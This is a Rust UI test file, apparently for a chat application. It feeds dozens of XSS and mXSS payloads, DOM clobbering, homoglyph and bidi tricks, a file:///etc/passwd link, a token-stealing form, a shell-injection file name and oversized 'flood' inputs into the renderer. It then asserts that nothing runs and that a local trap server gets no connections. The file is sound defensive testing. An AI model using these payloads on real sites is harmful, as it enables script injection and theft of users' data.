//! Hostile texts of models, skills, files and people: nothing runs, no request is sent, nothing freezes, and all of it is
//! readable.

use super::browser::{Tab, role};
use super::fill;
use super::stage::{MESSAGE, Stage};
use crate::harness::Home;
use serde_json::{Value, json};
use std::net::TcpListener;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

/// Counts connections. There must be none.
struct Trap {
    address: String,
    caught: Arc<AtomicUsize>,
}

impl Trap {
    fn set() -> Trap {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let address = listener.local_addr().unwrap().to_string();
        let caught: Arc<AtomicUsize> = Arc::default();
        let counts = caught.clone();
        std::thread::spawn(move || {
            listener.incoming().for_each(|_| {
                counts.fetch_add(1, Ordering::SeqCst);
            });
        });
        Trap { address, caught }
    }

    fn caught(&self) -> usize {
        self.caught.load(Ordering::SeqCst)
    }
}

/// Each would set `window.owned`, show a dialog, or send a request to the trap, if it ran.
fn attacks(trap: &str) -> Vec<(&'static str, String)> {
    let run = format!("window.owned=1;alert(1);fetch('http://{trap}/')");
    let attacks = [
        ("script", format!("<script>{run}</script>")),
        ("script-src", format!("<script src=http://{trap}/x.js></script>")),
        ("script-split", format!("<scr<script>ipt>{run}</scr</script>ipt>")),
        ("script-case", format!("<ScRiPt\n>{run}</sCrIpT\t>")),
        ("img-onerror", format!("<img src=x onerror=\"{run}\">")),
        ("img-remote", format!("<img src=\"http://{trap}/pixel.png\"> ![pixel](http://{trap}/pixel.png)")),
        ("img-srcset", format!("<img srcset=\"http://{trap}/a.png 1x, http://{trap}/b.png 2x\">")),
        ("body-onload", format!("<body onload=\"{run}\">")),
        ("details-ontoggle", format!("<details open ontoggle=\"{run}\"><summary>look</summary></details>")),
        ("input-autofocus", format!("<input autofocus onfocus=\"{run}\">")),
        ("style-animation", format!("<style>@keyframes k{{}} *{{animation:k}}</style><b onanimationstart=\"{run}\">b</b>")),
        ("svg-script", format!("<svg><script>{run}</script></svg>")),
        ("svg-onload", format!("<svg/onload=\"{run}\"><animate onbegin=\"{run}\" attributeName=x dur=1s>")),
        ("svg-use", format!("<svg><use href=\"data:image/svg+xml,<svg id=x onload='{run}'/>#x\"/></svg>")),
        ("svg-foreign", format!("<svg><foreignObject><iframe srcdoc=\"<script>{run}</script>\"></iframe></foreignObject></svg>")),
        ("math", format!("<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={run}&gt;\">")),
        ("mutation", format!("<form><math><mtext></form><form><mglyph><style></math><img src onerror=\"{run}\">")),
        ("template", format!("<template shadowrootmode=open><img src=x onerror=\"{run}\"></template>")),
        ("iframe", format!("<iframe src=\"javascript:parent.{run}\"></iframe><iframe srcdoc=\"<script>parent.{run}</script>\"></iframe>")),
        ("object", format!("<object data=\"http://{trap}/o\"></object><embed src=\"http://{trap}/e\"><applet code=x>")),
        ("media", format!("<video src=\"http://{trap}/v\" onerror=\"{run}\"></video><audio src=x onerror=\"{run}\">")),
        ("link-javascript", format!("[click](javascript:{run}) <a href=\"javascript:{run}\">me</a>")),
        ("link-obscured", format!("[a](JaVa\tScRiPt:{run}) [b](&#106;avascript:{run}) [c](%6Aavascript:{run}) [d]( javascript&colon;{run})")),
        ("link-control", format!("<a href=\"\u{1}java\nscript:{run}\">e</a> [f](java\u{0}script:{run}) [g](\u{1}javascript:{run})")),
        ("link-vbscript", "[h](vbscript:msgbox(1)) <vbscript:msgbox(1)>".to_owned()),
        ("link-data", format!("[i](data:text/html,<script>{run}</script>) <data:text/html;base64,PHNjcmlwdD4=>")),
        ("link-file", "[j](file:///etc/passwd) [k](blob:http://127.0.0.1/x) [l](view-source:http://127.0.0.1/)".to_owned()),
        ("link-reference", format!("[m][evil] ![n][evil]\n\n[evil]: javascript:{run} \"title\"")),
        ("link-title", format!("[o](https://example.org/ \"a\\\" onmouseover=\\\"{run}\")")),
        ("link-auto", format!("<javascript:{run}> javascript:{run} www.example.org/\"onmouseover=\"{run}")),
        ("link-homoglyph", "[https://github.com/kiso](https://gіthub.com/kiso) [bank.example](https://evil.example/login)".to_owned()),
        ("image-javascript", format!("![p](javascript:{run}) ![q](data:image/svg+xml,<svg onload='{run}'/>)")),
        ("image-data-html", format!("![r](data:text/html,<script>{run}</script>)")),
        ("form", format!("<form action=\"http://{trap}/steal\"><input name=token><button formaction=\"javascript:{run}\">Log in</button></form>")),
        ("meta", format!("<meta http-equiv=refresh content=\"0;url=http://{trap}/\">")),
        ("base", format!("<base href=\"http://{trap}/\"> [s](relative)")),
        ("link-element", format!("<link rel=stylesheet href=\"http://{trap}/s.css\"><link rel=prefetch href=\"http://{trap}/p\">")),
        ("style-element", format!("<style>body{{display:none}} *{{background:url(http://{trap}/b)}}</style>")),
        ("style-attribute", format!("<div style=\"position:fixed;inset:0;background:url(http://{trap}/c)\">over everything</div>")),
        ("class", "<div class=\"veil frame sidebar\" id=app>as the page's own</div>".to_owned()),
        ("clobber", "<form id=document name=body><input name=cookie><input id=app name=app></form><a id=location name=href>x</a><img name=querySelector>".to_owned()),
        ("comment", format!("<!--><img src=x onerror=\"{run}\">--> <![CDATA[<script>{run}</script>]]> <?xml <script>{run}</script>?>")),
        ("entity", "&lt;script&gt;window.owned=1&lt;/script&gt; &#60;script&#62;window.owned=1&#60;/script&#62;".to_owned()),
        ("code-info", format!("```\"><img src=x onerror=\"{run}\">\nx\n```\n\n```js onload=\"{run}\" class=veil\ny\n```")),
        ("code-html", format!("```html\n<script>{run}</script><img src=x onerror=\"{run}\">\n```\n\n`<script>{run}</script>`")),
        ("table", format!("| a | <img src=x onerror=\"{run}\"> |\n|---|---|\n| [t](javascript:{run}) | <script>{run}</script> |")),
        ("heading", format!("# <img src=x onerror=\"{run}\"> [u](javascript:{run}) {{#app}}")),
        ("math-text", format!("$\\href{{javascript:{run}}}{{x}}$ $$<img src=x onerror=\"{run}\">$$ \\(<script>{run}</script>\\)")),
        ("math-commands", format!("$$\\text{{<img src=x onerror=\"{run}\">}} \\href{{javascript:{run}}}{{y}} \\class{{veil}}{{z}} \\constructor \\__proto__ \\toString$$")),
        ("footnote", format!("[^a] [^__proto__] [^constructor]\n\n[^a]: <script>{run}</script> [n](javascript:{run})\n[^\"><img src=x onerror={run}>]: b")),
        ("bidi", "user\u{202e}gpj.exe\u{202c} \u{2066}\u{2067}\u{2068}x\u{2069} \u{200f}\u{061c}abc \u{202d}override".to_owned()),
        ("invisible", "zero\u{200b}width\u{200d}\u{2060}\u{feff} soft\u{ad}hyphen \u{e0001}\u{e0041}tags \u{fff9}a\u{fffa}b\u{fffb}".to_owned()),
        ("combining", format!("Z{}lgo", "\u{0310}\u{0353}\u{0489}".repeat(500))),
        ("control", "bell\u{7} escape\u{1b}[31mred\u{1b}[0m \u{1b}]8;;http://evil.example\u{7}link\u{1b}]8;;\u{7} back\u{8}space".to_owned()),
        ("prototype", "__proto__ constructor toString hasOwnProperty [__proto__]: x\n\n[v][__proto__] [w][constructor]".to_owned()),
        ("unclosed", "```js\nnever closed **bold _under ~~strike [link](https://example.org".to_owned()),
    ];
    attacks.into_iter().collect()
}

/// Each would keep a naive page busy for minutes, or exhaust its stack.
fn floods() -> Vec<(&'static str, String)> {
    let chart = |value: &Value| format!("```chart\n{value}\n```");
    let many: Vec<usize> = (0..200_000).collect();
    vec![
        ("five-megabytes", "All work and no play makes a dull page. ".repeat(131_072)),
        ("one-line", "x".repeat(100_000)),
        ("quotes", format!("{}deep", "> ".repeat(10_000))),
        ("lists", (0..2_000).map(|n| format!("{}- item\n", "  ".repeat(n))).collect()),
        ("list-line", format!("{}x", "- ".repeat(10_000))),
        ("emphasis", format!("{}x{}", "*a **b ".repeat(5_000), "** *".repeat(5_000))),
        ("underscores", "_a __b ".repeat(20_000)),
        ("brackets", format!("{}x{}", "[".repeat(20_000), "]".repeat(20_000))),
        ("link-openers", "[a](".repeat(20_000)),
        ("autolinks", "<a".repeat(40_000)),
        ("backticks", (1..400).map(|n| format!("{} ", "`".repeat(n))).collect()),
        ("table-wide", format!("|{}\n|{}\n|{}\n", "a|".repeat(5_000), "-|".repeat(5_000), "b|".repeat(5_000))),
        ("table-long", format!("|a|b|\n|-|-|\n{}", "|1|2|\n".repeat(20_000))),
        ("many-blocks", "# h\n\np\n\n".repeat(10_000)),
        ("math-openers", "$$ \\( \\[ $".repeat(10_000)),
        ("math-nested", format!("$${}x{}$$", "\\frac{".repeat(800), "}".repeat(800))),
        ("math-not", format!("$${}x$$", "\\not".repeat(900))),
        ("math-wide", format!("$$\\begin{{matrix}}{}\\end{{matrix}}$$", "1&".repeat(1_500))),
        ("notes", (0..3_000).map(|n| format!("see[^{n}]\n\n[^{n}]: note\n\n")).collect()),
        ("dollars", "$1 ".repeat(30_000)),
        ("references", (0..5_000).map(|n| format!("[r{n}]: https://example.org/{n}\n")).collect()),
        ("chart-junk", "```chart\n{\"type\": \"line\", \"x\": [1, 2\n```".to_owned()),
        ("chart-types", chart(&json!({ "type": "<img src=x onerror=alert(1)>", "x": {}, "series": "no" }))),
        ("chart-proto", "```chart\n{\"type\":\"line\",\"__proto__\":{\"owned\":1},\"x\":[1],\"series\":[{\"name\":\"__proto__\",\"values\":[1]}]}\n```".to_owned()),
        ("chart-names", chart(&json!({
            "type": "bar", "title": "<script>window.owned=1</script>", "x": ["<img src=x onerror=alert(1)>", "b"],
            "series": [{ "name": "<b onclick=alert(1)>", "values": [1, 2] }],
        }))),
        ("chart-huge", chart(&json!({ "type": "line", "x": many, "series": [{ "name": "n", "values": many }] }))),
        ("chart-numbers", chart(&json!({
            "type": "line", "x": [1, 2, 3], "series": [{ "name": "n", "values": [1e308, -1e308, null] }],
        }))),
    ]
}

/// Lists elements and attributes that must not be in the document.
const CLEAN: &str = "(() => {
  const found = [];
  const elements = [...document.querySelectorAll('*')];
  const MATH = /^(math|m(row|i|n|o|text|space|frac|sqrt|root|sub|sup|subsup|under|over|underover|table|tr|td))$/;
  for (const it of elements) {
    for (const { name, value } of it.attributes) {
      if (/^on/i.test(name)) found.push(`${it.tagName} ${name}`);
      if (/^(href|src|action|formaction|data|xlink:href|srcset|poster)$/i.test(name)
        && /^[\\s\\u0000-\\u0020]*(javascript|vbscript|data|file|view-source):/i.test(value)
        && !/^data:image\\/(png|jpeg|gif|webp);/i.test(value)) found.push(`${it.tagName} ${name}=${value.slice(0, 60)}`);
    }
    if (/^(iframe|frame|object|embed|applet|base|template)$/i.test(it.tagName)) found.push(it.tagName);
    if (/MathML$/.test(it.namespaceURI) && !(MATH.test(it.localName) && it.closest('.md-math'))) found.push(it.tagName);
    if (/^form$/i.test(it.tagName) && it.closest('article')) found.push('FORM in a message');
    if (/^(meta|style|link|script)$/i.test(it.tagName) && !document.head.contains(it)) found.push(it.tagName);
    if (/^a$/i.test(it.tagName) && it.target === '_blank' && !/noopener/.test(it.rel)) found.push(`${it.href} without noopener`);
  }
  if (window.owned !== undefined || ({}).owned !== undefined) found.push('owned');
  if (typeof document.cookie !== 'string' || !(document.body instanceof HTMLBodyElement)) found.push('clobbered');
  if (document.querySelectorAll('#app').length !== 1) found.push('a second #app');
  return found;
})()";

#[track_caller]
fn is_harmless(tab: &Tab, trap: &Trap) {
    let found = tab.eval(CLEAN);
    assert_eq!(found, json!([]), "{}", tab.describe());
    assert_eq!(trap.caught(), 0, "something was asked of another server\n{}", tab.describe());
    tab.check();
}

/// A text between marks, to check that it and the text after it are shown.
fn marked(name: &str, text: &str) -> String {
    format!("begin-{name}\n\n{text}\n\nend-{name}")
}

/// Turns the wheel until a mark is in view. On a busy machine, several turns can take effect at once and pass the mark.
#[track_caller]
fn scroll_to(stage: &Stage, mark: &str) {
    let tab = &stage.tab;
    // The pixels to scroll; 0 if the mark is in view. Messages that are not loaded are above.
    let way = format!(
        "(() => {{
          const mark = [...document.querySelectorAll('[role=log] p')].find((it) => it.textContent === '{mark}');
          if (!mark) return -1500;
          const [view, at] = [document.querySelector('[role=log]').getBoundingClientRect(), mark.getBoundingClientRect()];
          if (at.bottom >= view.top && at.top <= view.bottom) return 0;
          return Math.round(Math.max(-1500, Math.min(1500, at.top - (view.top + view.bottom) / 2)));
        }})()"
    );
    tab.wait(&format!("{mark} is shown"), || match tab.eval(&way).as_i64() {
        Some(0) => true,
        Some(way) => {
            tab.scroll(role("log", "Messages"), i32::try_from(way).expect("it is a distance on a screen"));
            false
        }
        None => false,
    });
}

#[test]
fn a_hostile_transcript_runs_nothing() {
    let trap = Trap::set();
    let attacks = attacks(&trap.address);
    let texts: Vec<_> = attacks.iter().flat_map(|(name, text)| [text.clone(), marked(name, text)]).collect();
    let Some(stage) = Stage::prepared(Home::new(), super::stage::QUICK, |home| fill::session(home, "hostile", texts))
    else {
        return;
    };
    let tab = &stage.tab;
    let before = tab.navigations().len();
    stage.open("hostile");
    tab.shows("begin-unclosed");
    // From the end to the beginning, as a person scrolls back.
    for (name, _) in attacks.iter().rev() {
        scroll_to(&stage, &format!("begin-{name}"));
        is_harmless(tab, &trap);
    }
    assert_eq!(tab.navigations().len(), before, "the tab was led elsewhere: {:?}", tab.navigations());
    assert_eq!(tab.requests().iter().find(|request| request.url.contains(&trap.address)).map(|r| &r.url), None);
    let links = tab.eval("[...document.querySelectorAll('main a[href]')].map((link) => link.protocol)");
    let links: Vec<&str> = links.as_array().unwrap().iter().filter_map(Value::as_str).collect();
    assert!(links.iter().all(|link| ["http:", "https:", "mailto:", "blob:"].contains(link)), "{links:?}");
}

#[test]
fn a_flood_freezes_nothing() {
    let trap = Trap::set();
    let floods = floods();
    let fill = |home: &Home| {
        for (name, text) in &floods {
            fill::session(home, name, ["what do you say?".to_owned(), marked(name, text)]);
        }
    };
    let Some(stage) = Stage::prepared(Home::new(), super::stage::QUICK, fill) else { return };
    let tab = &stage.tab;
    for (name, _) in &floods {
        stage.open(name);
        tab.shows(&format!("begin-{name}"));
        // The page still reacts, even while it is drawing.
        tab.focus(MESSAGE);
        tab.type_text("still here");
        tab.wait_of(MESSAGE, "it.value === 'still here'");
        is_harmless(tab, &trap);
    }
}

/// Titles, file names, command output and texts of a skill are shown as plain text, too.
#[test]
fn hostile_names_are_only_names() {
    let trap = Trap::set();
    let run = format!("<img src=x onerror=\"window.owned=1;fetch('http://{}/')\">", trap.address);
    let Some(stage) = Stage::reflex() else { return };
    let tab = &stage.tab;
    let named = "$ touch '<img src=x onerror=alert(1)>.txt' && echo '<script>alert(1)</script>' && printf '\\033[31mred\\033[0m'";
    let message = stage.daemon.send("named", named);
    stage.daemon.reply(message);
    let titled = json!({ "title": run }).to_string();
    stage.daemon.request("PATCH", "/sessions/named", Some(&titled)).expect(200);
    stage.open("named");
    tab.shows("onerror");
    tab.wait_until("document.title.includes('onerror')");
    tab.click(role("button", "Show steps"));
    tab.wait_for(role("group", "Steps"));
    tab.shows("<script>alert(1)</script>");
    is_harmless(tab, &trap);
}
